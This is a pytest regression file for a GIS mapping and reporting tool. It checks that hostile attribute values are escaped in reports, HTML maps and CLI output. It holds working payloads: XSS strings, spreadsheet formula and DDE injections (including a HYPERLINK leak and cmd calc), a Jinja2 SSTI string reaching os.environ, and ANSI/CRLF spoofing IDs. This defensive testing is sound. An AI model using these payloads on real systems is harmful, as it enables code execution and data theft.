"""Hostile attribute text reaches reports and maps as inert, escaped data.

Attribute values are data. Names with HTML/JS (``<img onerror>``, ``</script>``,
attribute breakers), spreadsheet formulas (``=HYPERLINK(...)``), control characters,
right-to-left overrides, template syntax and 3,000-character strings go through

* the target report (Markdown, XLSX, CSV: :mod:`futiangis.report`), and
* ``futiangis build`` (:func:`futiangis.build.build_maps`, offline pages), checked in the
  HTML text and, in headless Chromium, by opening every popup and tooltip and using the
  search box: nothing executes, the text shows literally.
"""
from __future__ import annotations

import io
import os
import re
import shutil
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest

from conftest import box_layer
from futiangis.config import load_config
from futiangis.io.reports import publish_files
from futiangis.report import build_markdown, build_xlsx, report_tables, table_to_csv, target_report_files
from futiangis.project import run_target_accounting

ROOT = Path(__file__).resolve().parents[1]

XSS_IMG = '<img src=x onerror="window.__pwned=1">'
XSS_SCRIPT = "</script><script>window.__pwned=2</script>"
XSS_ATTR = '"><svg onload=window.__pwned=3>'
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
CONTROL = "a\x07b\x1bc\x0bd\x7fe"
RTL = "\u200fRTL\u200f \u2067iso\u2069 \u202eexe.txt"  # the override is never closed
LONG = "长" * 3000
TEMPLATE = "{{7*7}} ${7*7} %s {0}"
# Jinja2 server-side template injection: branca re-renders macro output as a template,
# so before the fix this ran Python at build time (and a lone "{{" crashed the build).
SSTI = "{{ cycler.__init__.__globals__.os.environ.setdefault('FUTIANGIS_PWNED', '1') }}"
BROKEN_TEMPLATE = "{% for %} {{ unclosed {# x"
PAYLOADS = [XSS_IMG, XSS_SCRIPT, XSS_ATTR, FORMULA, CONTROL, RTL, LONG, TEMPLATE, SSTI, BROKEN_TEMPLATE]
RAW_MARKUP = ("<img src=x", "<script>window.__pwned", "<svg onload")
C0 = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


# ---------------------------------------------------------------------------------------
# reports
# ---------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def hostile_result():
    config = load_config(ROOT / "futiangis.toml")
    n = len(PAYLOADS)
    sites = box_layer(
        # the last site (id = an <img> payload) overlaps the first, so the report names it
        [(0, 150 * i, 100, 100) for i in range(n - 1)] + [(50, 0, 100, 100)], ids=[f"s{i}" for i in range(n - 1)] + [XSS_IMG],
        status=["completed"] * n, year=[2014] * n, plot_ratio=[4.0] * n, industrial_share=[1.0] * n,
        gfa_new_m2=[1000.0] * n, investment_100m_cny=[1.0] * n, illustrative=[True] * n,
        name_zh=PAYLOADS, name_en=PAYLOADS[::-1],
    )
    zones = box_layer([(-100, -100, 1000, 2000)], ids=["z1"], direction=["east"], name_zh=[XSS_SCRIPT + RTL])
    return run_target_accounting(config, sites=sites, zones=zones)


def test_markdown_report_escapes_every_payload(hostile_result):
    md = build_markdown(hostile_result)
    for raw in RAW_MARKUP:
        assert raw not in md
    assert "重叠地块 (1 pair(s))" in md  # heading: "Overlapping sites, both counted in full"
    assert "&lt;img src=x onerror=\"window.__pwned=1\"&gt;" in md  # the site id, as text
    assert "&lt;/script&gt;&lt;script&gt;window.__pwned=2&lt;/script&gt;" in md  # the zone name
    assert not C0.search(md)
    assert "\r" not in md
    table_rows = [line for line in md.splitlines() if line.startswith("|")]
    assert all(line.rstrip().endswith("|") for line in table_rows)  # no row broken open


def test_xlsx_keeps_formulas_as_text_and_survives_control_characters(hostile_result):
    """Regression: openpyxl stored '=…' as a live formula and refused control characters."""
    data = build_xlsx(report_tables(hostile_result))
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb["sites"]
    header = [c.value for c in ws[1]]
    col = header.index("name_zh") + 1
    cells = [ws.cell(row=r, column=col) for r in range(2, ws.max_row + 1)]
    by_value = {c.value: c for c in cells}
    assert by_value[FORMULA].data_type == "s"  # text, not a formula
    assert all(c.data_type != "f" for row in wb["sites"].iter_rows() for c in row)
    assert "a\ufffdb\ufffdc\ufffdd\x7fe" in by_value  # C0 controls replaced, visible
    assert LONG in by_value and RTL in by_value and XSS_IMG in by_value


def test_csv_report_round_trips_hostile_values(hostile_result):
    """Every value comes back; the formula-like one with the OWASP apostrophe in front."""
    table = report_tables(hostile_result)["sites"]
    back = pd.read_csv(io.BytesIO(table_to_csv(table)), encoding="utf-8-sig", keep_default_na=False)
    expected = ["'" + v if v == FORMULA else v for v in table["name_zh"]]
    assert list(back["name_zh"]) == expected


# ---------------------------------------------------------------------------------------
# formula injection (OWASP CSV injection): headers, cells and sheet names
# ---------------------------------------------------------------------------------------
INJECTIONS = ['=HYPERLINK("http://example.invalid","x")', "+1+cmd|' /C calc'!A0", "-2+3",
              "@SUM(1,2)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1"]
INERT = ["a=b", "福田", "", "-12.5", "+7", "1e3"]  # not formulas (plain numbers stay as written)


def write_target_report(result, out, **options):
    """The report folder as ``futiangis target --out`` writes it: core content, io publishes."""
    return publish_files(target_report_files(result), out, **options)


@pytest.fixture
def injected_table():
    columns = {f"{p}{i}" if i else p: [] for i, p in enumerate(INJECTIONS)}
    rows = len(INJECTIONS) + len(INERT)
    table = pd.DataFrame({"=HYPERLINK(\"http://x\",\"h\")": INJECTIONS + INERT,
                          "@header": list(range(rows)), "amount": [-5.5] * rows, "count": [-3] * rows})
    assert columns  # the header names themselves are injections
    return table


def test_csv_cells_and_headers_are_inert(injected_table):
    import csv

    text = table_to_csv(injected_table).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["'=HYPERLINK(\"http://x\",\"h\")", "'@header", "amount", "count"]
    cells = [r[0] for r in body]
    assert cells[:len(INJECTIONS)] == ["'" + v for v in INJECTIONS]
    assert cells[len(INJECTIONS):] == INERT  # plain text and plain numbers unchanged
    assert {r[2] for r in body} == {"-5.5"} and {r[3] for r in body} == {"-3"}  # numbers stay numbers
    for cell in [*header, *(c for r in body for c in r)]:
        risky = cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
        assert not risky or cell.startswith("'") or cell in ("-12.5", "+7", "-5.5", "-3"), cell


def test_xlsx_has_no_formula_cell_anywhere_headers_and_sheet_names_included(injected_table):
    data = build_xlsx({"=evil": injected_table, "t@ble": injected_table},
                      notes=["=HYPERLINK(\"http://example.invalid\",\"readme\")", "plain note"])
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["README", "_=evil", "t@ble"]
    n_cells = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                n_cells += 1
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝")):
                    assert cell.quotePrefix or cell.value in INERT, (ws.title, cell.coordinate)
    assert n_cells > 40
    ws = wb["_=evil"]
    assert ws["A1"].value == '=HYPERLINK("http://x","h")' and ws["A1"].data_type == "s"  # kept as written
    # kept as written (XML turns a CR into LF)
    assert [ws.cell(row=r, column=1).value for r in range(2, 2 + len(INJECTIONS))] == [
        v.replace("\r", "\n") for v in INJECTIONS]
    assert ws["C2"].value == -5.5 and ws["C2"].data_type == "n"  # numbers stay numbers
    assert ws["D2"].value == -3 and ws["D2"].data_type == "n"
    assert wb["README"]["A2"].data_type == "s" and wb["README"]["A2"].quotePrefix


def test_markdown_cells_are_inert():
    config = load_config(ROOT / "futiangis.toml")
    sites = box_layer([(0, 0, 100, 100), (0, 200, 100, 100)], ids=[FORMULA, "@SUM(1,2)"],
                      status=["completed"] * 2, year=[2014] * 2, plot_ratio=[4.0] * 2,
                      industrial_share=[1.0] * 2, gfa_new_m2=[float("nan")] * 2,
                      investment_100m_cny=[1.0] * 2, name_zh=["a", "b"], name_en=["a", "b"])
    zones = box_layer([(-100, -100, 1000, 2000)], ids=["z1"], direction=["east"], name_zh=["-1+1"])
    md = build_markdown(run_target_accounting(config, sites=sites, zones=zones))
    formula_cells = [c.strip() for line in md.splitlines() if line.startswith("|")
                     for c in line.split("|") if "HYPERLINK" in c]
    assert formula_cells and all(c.startswith("'=HYPERLINK") for c in formula_cells)
    assert "| '@SUM(1,2) |" in md and "| '-1+1 |" in md


def test_write_report_with_hostile_values(hostile_result, tmp_path):
    written = write_target_report(hostile_result, tmp_path / "report")
    assert written and all(p.exists() and p.stat().st_size > 0 for p in written)
    assert [p.name for p in (tmp_path / "report").iterdir() if p.name.startswith(".")] == [".futiangis-output"]


# ---------------------------------------------------------------------------------------
# maps: futiangis build over layers carrying the payloads
# ---------------------------------------------------------------------------------------
HOSTILE_COLUMNS = {
    "parks": ("name_zh", "name_en"), "charging_stations": ("name_zh", "name_en"),
    "renewal_sites": ("name_zh", "name_en"), "cbd_zones": ("name_zh", "key_projects"),
    "slow_routes": ("name_zh",), "bike_stations": ("name_zh",), "units": ("name_zh", "name_en"),
}


@pytest.fixture(scope="module")
def hostile_maps(tmp_path_factory):
    build = pytest.importorskip("futiangis.build")
    tmp = tmp_path_factory.mktemp("hostile")
    shutil.copytree(ROOT / "layers", tmp / "layers")
    toml = (ROOT / "futiangis.toml").read_text(encoding="utf-8")
    (tmp / "futiangis.toml").write_text(
        toml.replace('layers = "layers"', f'layers = "{(tmp / "layers").as_posix()}"'), encoding="utf-8")
    touched = []
    for kind, cols in HOSTILE_COLUMNS.items():
        path = tmp / "layers" / f"{kind}.geojson"
        if not path.exists():
            continue
        gdf = gpd.read_file(path)
        for j, col in enumerate(cols):
            if col not in gdf.columns:
                continue
            for i in range(min(len(gdf), len(PAYLOADS))):
                gdf.loc[i, col] = PAYLOADS[(i + j) % len(PAYLOADS)]
        path.unlink()
        gdf.to_file(path, driver="GeoJSON", engine="pyogrio")
        touched.append(kind)
    config = load_config(tmp / "futiangis.toml")
    os.environ.pop("FUTIANGIS_PWNED", None)
    result = build.build_maps(config, out_dir=tmp / "maps", offline=True, basemap="none", static=True)
    return result, touched


def test_template_syntax_in_values_is_never_executed(hostile_maps):
    """Regression: a name "{{ … }}" was evaluated by Jinja2 while building the maps."""
    result, _ = hostile_maps
    assert "FUTIANGIS_PWNED" not in os.environ
    text = "".join(p.read_text(encoding="utf-8") for p in result.out_dir.glob("*.html"))
    assert "49 ${7*7}" not in text
    assert "\\u007b{7*7}} ${7*7} %s {0}" in text  # kept, with "{" escaped for JSON/JS


def test_build_pages_carry_payloads_only_as_escaped_text(hostile_maps):
    result, touched = hostile_maps
    assert {"parks", "charging_stations", "units"} <= set(touched)
    pages = sorted(result.out_dir.glob("*.html"))
    assert len(pages) >= 5
    for page in pages:
        text = page.read_text(encoding="utf-8")
        for raw in RAW_MARKUP:
            assert raw not in text, (page.name, raw)
        # a value can never close the page's <script> blocks early
        assert text.count("<script") == text.lower().count("</script>"), page.name
        if page.name != "index.html":  # see test_index_page_has_no_raw_control_characters
            assert not C0.search(text), page.name
    theme_pages = [p.read_text(encoding="utf-8") for p in pages if p.name != "index.html"]
    assert any(LONG in t for t in theme_pages)  # the long name arrives whole
    assert any("\\u0026lt;img src=x onerror=" in t for t in theme_pages)  # escaped, in JSON
    assert all(png.stat().st_size > 1000 for png in result.out_dir.glob("*.png"))


def test_index_page_has_no_raw_control_characters(hostile_maps):
    result, _ = hostile_maps
    assert not C0.search((result.out_dir / "index.html").read_text(encoding="utf-8"))


def _chromium(browser_required: bool):
    playwright = pytest.importorskip("playwright.sync_api") if not browser_required else __import__(
        "playwright.sync_api", fromlist=["sync_playwright"])
    exe = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if exe is None:
        if browser_required:
            pytest.fail("Chromium is required (CI=true) but not installed")
        pytest.skip("no Chromium on this machine")
    return playwright, exe


_OPEN_EVERYTHING = """() => {
    const shown = [];
    for (const key of Object.keys(window)) {
        const m = window[key];
        if (!(m && window.L && m instanceof L.Map)) continue;
        m.eachLayer(layer => {
            if (layer.getPopup && layer.getPopup()) {
                layer.openPopup();
                const el = layer.getPopup().getElement();
                if (el) shown.push(el.textContent);
            }
            if (layer.getTooltip && layer.getTooltip()) {
                layer.openTooltip();
                const el = layer.getTooltip().getElement();
                if (el) shown.push(el.textContent);
            }
        });
    }
    return shown;
}"""


@pytest.mark.browser
def test_nothing_executes_in_a_real_browser(hostile_maps, browser_required):
    result, _ = hostile_maps
    playwright, exe = _chromium(browser_required)
    shown_all: list[str] = []
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=exe, args=["--no-sandbox"])
        try:
            for page_path in sorted(result.out_dir.glob("*.html")):
                page = browser.new_page()
                dialogs, errors = [], []
                page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
                page.on("pageerror", lambda e: errors.append(str(e)))
                page.goto(page_path.as_uri())
                page.wait_for_load_state("load")
                shown = page.evaluate(_OPEN_EVERYTHING) if page_path.name != "index.html" else []
                search = page.locator(".ft-search input")
                if search.count():
                    page.locator(".ft-search .ft-search-btn").first.click()
                    for term in ("img", "script", "svg", "长"):
                        search.first.fill(term)
                        page.wait_for_timeout(150)
                        shown += page.locator(".ft-search-hit").all_text_contents()
                page.wait_for_timeout(200)
                assert page.evaluate("window.__pwned") is None, page_path.name
                assert dialogs == [] and errors == [], (page_path.name, dialogs, errors)
                shown_all += shown
                page.close()
        finally:
            browser.close()
    text = "\n".join(shown_all)
    # the payloads are shown literally, as text, to the user
    missing = [p for p in (XSS_IMG, XSS_SCRIPT, XSS_ATTR, TEMPLATE, SSTI, BROKEN_TEMPLATE, LONG)
               if p not in text]
    assert not missing, (missing, len(shown_all))


@pytest.mark.browser
def test_right_to_left_override_is_isolated(hostile_maps, browser_required):
    result, _ = hostile_maps
    playwright, exe = _chromium(browser_required)
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=exe, args=["--no-sandbox"])
        try:
            page = browser.new_page()
            page.goto((result.out_dir / "parks.html").as_uri())
            page.wait_for_load_state("load")
            page.evaluate(_OPEN_EVERYTHING)
            isolated = page.evaluate("""(value) => {
                const out = [];
                document.querySelectorAll('.ft-pop-name, .ft-pop td, .leaflet-tooltip').forEach(el => {
                    if (!el.textContent.includes('\\u202e')) return;
                    // the innermost element holding the override must hold exactly the value
                    // and isolate it, so the override cannot reorder the text after it
                    let inner = el;
                    for (;;) {
                        const next = [...inner.children].find(c => c.textContent.includes('\\u202e'));
                        if (!next) break;
                        inner = next;
                    }
                    const bidi = getComputedStyle(inner).unicodeBidi;
                    out.push(inner.textContent === value &&
                             (inner.tagName === 'BDI' || ['isolate', 'plaintext'].includes(bidi)));
                });
                return out;
            }""", RTL)
        finally:
            browser.close()
    assert isolated and all(isolated), isolated


# ---------------------------------------------------------------------------------------
# terminal messages: ids and column names are escaped
# ---------------------------------------------------------------------------------------
ESC_ID = "u1\x1b[2J\x1b[32mOK: all valid\x1b[0m"
CRLF_ID = "u2\r\nOK: tests/data/ok.geojson is a valid units layer"


def test_control_characters_in_ids_and_columns_are_shown_escaped(tmp_path):
    from click.testing import CliRunner

    from futiangis.cli.main import cli

    path = tmp_path / "units.geojson"
    box_layer([(0, 0, 100, 100), (200, 0, 100, 100), (400, 0, 100, 100), (600, 0, 100, 100)],
              ids=[ESC_ID, ESC_ID, CRLF_ID, CRLF_ID], name_en=["a", "b", "c", "d"],
              **{"name\x1b[31m_zh": ["一", "二", "三", "四"]}
              ).to_crs(4326).to_file(path, engine="pyogrio")
    # cbd_zones: 'direction' is required, so the message lists the columns present (names
    # are optional since issue 11, so a units layer no longer lists them)
    result = CliRunner().invoke(cli, ["validate", str(path), "--kind", "cbd_zones"])
    assert result.exit_code == 1, result.output
    assert "\x1b" not in result.output and "\r" not in result.output
    assert "feature u1\\x1b[2J\\x1b[32mOK: all valid\\x1b[0m" in result.output
    assert "feature u2\\r\\nOK: tests/data/ok.geojson is a valid units layer" in result.output
    # the field mapping's notes name columns: escaped as well
    renamed = tmp_path / "renamed.geojson"
    box_layer([(0, 0, 100, 100)], ids=["u9"], **{"名称\x1b[2J": ["一"]}).to_crs(4326).to_file(renamed, engine="pyogrio")
    noted = CliRunner().invoke(cli, ["validate", str(renamed), "--kind", "units", "--field", "name_zh=名称\x1b[2J"])
    assert noted.exit_code == 0, noted.output
    assert "\x1b" not in noted.output and "mapped 名称\\x1b[2J → name_zh" in noted.output
    assert "name\\x1b[31m_zh" in result.output  # the column name, in "Columns present"
    # every line is one futiangis wrote: none forged by an id
    assert not [line for line in result.output.splitlines() if line.startswith("OK")]
    # the same ids printed by measure
    unique = tmp_path / "unique.geojson"
    box_layer([(0, 0, 100, 100), (200, 0, 100, 100)], ids=[ESC_ID, CRLF_ID]).to_crs(4326).to_file(
        unique, engine="pyogrio")
    measure = CliRunner().invoke(cli, ["measure", str(unique)])
    assert measure.exit_code == 0, measure.output
    assert "\x1b" not in measure.output and "\r" not in measure.output
    assert "u1\\x1b[2J" in measure.output and "u2\\r\\nOK" in measure.output
